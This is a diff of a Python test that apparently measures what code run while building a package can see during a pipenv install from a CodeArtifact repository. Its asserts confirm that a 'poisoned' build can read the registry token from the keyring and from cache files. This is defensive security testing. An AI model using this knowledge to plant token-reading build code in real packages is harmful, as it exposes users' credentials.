-    repository = world.add_repository("built")
-    world.publish(sdist, repository)
+    simple = codeartifact.endpoint.simple_url
+    values = {"OUT": str(out), "URL": simple, "CACHE": str(tmp_path / "tokens")}
+    sdist = _sdist(tmp_path / "sdist", KEYRING=KEYRING, **values)
+    repository = codeartifact.add_repository("built")
+    codeartifact.publish(sdist, repository)
     poisoned.write(source(repository), '[packages]\norb-built = "*"\n')
     shutil.rmtree(poisoned.folder / ".venv", ignore_errors=True)
-    token = get_token(world, poisoned.env, poisoned.folder)
+    token = get_token(codeartifact, poisoned.env, poisoned.folder)
 
     def seen(*words: str, **env: str) -> dict[str, Any]:
         out.unlink(missing_ok=True)
-        # (What pip has built before it does not build again.)
+        # pip would reuse a wheel that it has built before.
         fresh = {"PIP_NO_CACHE_DIR": "1", "PIPENV_CACHE_DIR": str(tmp_path / "pc")} | env
         done = run(PIPENV_CA, *words, env=poisoned.env | fresh, cwd=poisoned.folder)
         assert done.status == 0, done.output
@@ -710,7 +677,7 @@ def test_what_build_code_sees(
     for found in (written, by_loopback):
         assert found["keyring"] == token
         assert any(token in text for text in found["cache"])
-    # The least: a token that was handed over, no credentials, no cache, and the index on loopback.
+    # The safest setup: an inherited token, no credentials, no cache, and the proxy index.
     poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_A")}
     poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_S")}
     shutil.rmtree(tmp_path / "tokens")
